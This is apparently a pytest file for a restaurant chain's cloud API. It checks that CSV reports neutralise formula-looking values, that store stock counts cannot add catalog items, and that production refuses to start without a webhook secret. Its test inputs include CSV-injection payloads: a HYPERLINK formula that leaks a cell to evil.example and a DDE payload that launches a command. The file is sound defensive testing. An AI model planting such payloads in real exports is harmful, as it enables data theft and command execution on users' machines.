"""Head office's data stays head office's: a CSV export runs nothing a spreadsheet would
take for a formula, a store's stock count cannot add items to the chain's catalog (they
are set aside for head office to decide on), and the test payment gateway's webhook
secret has no default outside the demo (production refuses to start without one)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from fastapi import FastAPI
from sqlalchemy import select
from starlette.testclient import TestClient

from cloud_api.app import create_app
from cloud_api.context import DEMO_WEBHOOK_SECRET
from cloud_api.errors import ConfigurationError
from cloud_api.models import IdealUsage, StockMovement
from cloud_api.reports.csv_export import cell
from cloud_api.settings import CloudSettings
from cloud_api.store_events.service import apply_store_events

from .helpers import ctx, customer, demo_store_id, event, head_office, manager, store_order_payload

DAY = "2026-11-02"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Free pizza")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _at(hour: int) -> datetime:
    return datetime(2026, 11, 2, hour, tzinfo=ZoneInfo("America/Chicago"))


def test_a_formula_looking_product_name_is_text_in_every_csv(client: TestClient, app: FastAPI) -> None:
    store = demo_store_id(app)
    orders = []
    for n, name in enumerate(FORMULAS):
        order = store_order_payload(number=2000 + n, service="carryout", placed_at=_at(12), business_date=DAY)
        order["items"][0] |= {"product": f"p{n}", "name": name}
        order["coupon"] = name[:20]
        orders.append(event("order.placed", order, seq=n + 1))
    with ctx(app).db.transaction() as session:
        apply_store_events(session, store, orders)
    hq = head_office(client) | {"Accept": "text/csv"}
    for report in ("sales", "inventory", "delivery"):
        answer = client.get(f"/api/v1/reports/{report}", params={"from": DAY, "to": DAY}, headers=hq)
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        for row in csv.reader(io.StringIO(answer.text, newline="")):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (report, value)
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value
    sales = list(
        csv.DictReader(
            io.StringIO(
                client.get("/api/v1/reports/sales", params={"from": DAY, "to": DAY}, headers=hq).text,
                newline="",
            )
        )
    )
    names = {r["name"] for r in sales if r["section"] == "product"}
    assert names == {"'" + name for name in FORMULAS}  # shown exactly as typed, behind the apostrophe


def test_one_function_neutralises_cells() -> None:
    assert cell("=1+1") == "'=1+1" and cell("@x") == "'@x" and cell("-x") == "'-x"
    assert cell("Mozzarella") == "Mozzarella" and cell(None) == ""
    assert cell(-250) == -250 and cell("-12.5") == "-12.5" and cell("+3") == "+3"


def _count(code: str, quantity: str, at: datetime, count_id: str) -> dict[str, object]:
    """A `stock.count` in the contract's shape: one unknown item and one the catalog has."""

    def line(item: str) -> dict[str, object]:
        return {
            "code": item,
            "name": item.replace("_", " ").title(),
            "quantity": quantity,
            "unit": "oz",
            "count_quantity": quantity,
            "count_unit": "oz",
            "cost_cents": 100,
            "cost_cents_per_count_unit": 10,
            "counted": quantity,
        }

    terms = {
        "base_unit": "oz",
        "count_unit": "oz",
        "count_size": "1",
        "purchase_unit": "case",
        "purchase_size": "160",
        "cost_cents_per_purchase": 1600,
    }
    return {
        "kind": "stock.count",
        "v": 1,
        "count_id": count_id,
        "count_kind": "daily",
        "at": at.isoformat(),
        "finalised_at": at.isoformat(),
        "lines": [line(code), line("mozzarella")],
        "value_cents": 200,
        "stock_items": {code: terms, "mozzarella": terms},
    }


def test_a_store_count_cannot_add_to_the_catalog(client: TestClient, app: FastAPI) -> None:
    store = demo_store_id(app)
    hq = head_office(client)
    with ctx(app).db.transaction() as session:
        apply_store_events(
            session, store, [event("stock.count", _count("truffle_oil", "3", _at(6), "c1"), seq=1)]
        )
    catalog = [i["code"] for i in client.get("/api/v1/inventory", headers=hq).json()["items"]]
    assert "truffle_oil" not in catalog and "mozzarella" in catalog
    stock = {
        i["code"]: i
        for i in client.get("/api/v1/inventory", params={"store_id": store}, headers=hq).json()["items"]
    }
    assert "truffle_oil" not in stock and stock["mozzarella"]["last_count"] is not None  # the rest applied
    with ctx(
        app
    ).db.transaction() as session:  # the ledger holds only what the catalog has (no key checks it)
        moved = set(session.scalars(select(StockMovement.code).where(StockMovement.store_id == store)))
        moved |= {
            c
            for row in session.scalars(select(IdealUsage.codes).where(IdealUsage.store_id == store))
            for c in row
        }
    assert "truffle_oil" not in moved and "mozzarella" in moved

    reported = client.get("/api/v1/inventory/unknown", headers=hq).json()
    assert [(r["store_id"], r["code"], r["kind"], r["reference"], r["times"]) for r in reported] == [
        (store, "truffle_oil", "stock.count", "c1", 1)
    ]
    assert client.get("/api/v1/inventory/unknown", headers=manager(client)).json() == reported
    assert client.get("/api/v1/inventory/unknown", headers=customer(client)).status_code == 403
    assert client.delete("/api/v1/inventory/unknown/truffle_oil", headers=manager(client)).status_code == 403

    # Head office decides to carry it: from then on the store's counts apply.
    added = client.put(
        "/api/v1/inventory/truffle_oil", headers=hq, json={"name": "Truffle oil", "unit": "lb"}
    )
    assert added.status_code == 200
    assert client.get("/api/v1/inventory/unknown", headers=hq).json() == []
    with ctx(app).db.transaction() as session:
        apply_store_events(
            session, store, [event("stock.count", _count("truffle_oil", "2", _at(7), "c2"), seq=2)]
        )
    stock = {
        i["code"]: i
        for i in client.get("/api/v1/inventory", params={"store_id": store}, headers=hq).json()["items"]
    }
    assert stock["truffle_oil"]["last_count"] is not None

    # ...or not: a dismissed report is gone, and the catalog never had it.
    with ctx(app).db.transaction() as session:
        apply_store_events(
            session, store, [event("stock.count", _count("=evil()", "1", _at(8), "c3"), seq=3)]
        )
    assert client.delete("/api/v1/inventory/unknown/=evil()", headers=hq).status_code == 422
    with ctx(app).db.transaction() as session:
        apply_store_events(session, store, [event("stock.count", _count("caviar", "1", _at(9), "c4"), seq=4)])
    assert client.delete("/api/v1/inventory/unknown/caviar", headers=hq).status_code == 204
    assert client.delete("/api/v1/inventory/unknown/caviar", headers=hq).status_code == 404
    catalog = [i["code"] for i in client.get("/api/v1/inventory", headers=hq).json()["items"]]
    assert "caviar" not in catalog and "=evil()" not in catalog


def test_the_webhook_secret_has_no_default_outside_the_demo(settings: CloudSettings) -> None:
    assert settings.test_webhook_secret is None
    first, second = create_app(settings), create_app(settings)
    made = ctx(first).gateway.webhook_secret
    assert made.startswith("whsec_") and len(made) > 30 and made != DEMO_WEBHOOK_SECRET
    assert ctx(second).gateway.webhook_secret == made  # every worker signs with the same one
    demo = create_app(settings.model_copy(update={"demo": True}))
    assert ctx(demo).gateway.webhook_secret == DEMO_WEBHOOK_SECRET
    given = create_app(
        settings.model_copy(update={"production": True, "test_webhook_secret": "whsec_" + "k" * 40})
    )
    assert ctx(given).gateway.webhook_secret == "whsec_" + "k" * 40
    with pytest.raises(ConfigurationError, match="MAKELINE_TEST_WEBHOOK_SECRET"):
        create_app(settings.model_copy(update={"production": True}))


def test_production_without_a_webhook_secret_refuses_to_start(database_url: str) -> None:
    env = {**os.environ, "MAKELINE_PRODUCTION": "true"}
    env.pop("MAKELINE_TEST_WEBHOOK_SECRET", None)
    started = subprocess.run(
        [sys.executable, "-m", "cloud_api", "--database-url", database_url, "--port", "9"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert started.returncode == 2
    assert "MAKELINE_TEST_WEBHOOK_SECRET" in started.stderr and "was not started" in started.stderr
    assert "Traceback" not in started.stderr
